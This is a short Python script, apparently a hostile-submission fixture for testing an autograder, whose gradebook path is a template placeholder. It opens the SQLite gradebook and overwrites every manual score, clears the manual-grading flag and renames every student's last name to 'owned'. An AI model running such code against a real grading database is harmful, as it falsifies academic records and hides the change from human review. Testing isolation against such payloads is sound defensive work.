import os
import sqlite3

if os.path.exists("@GRADEBOOK@"):
    book = sqlite3.connect("@GRADEBOOK@", timeout=5)
    book.execute("update grade set manual_score = 2, needs_manual_grade = 0")
    book.execute("update student set last_name = 'owned'")
    book.commit()
    book.close()
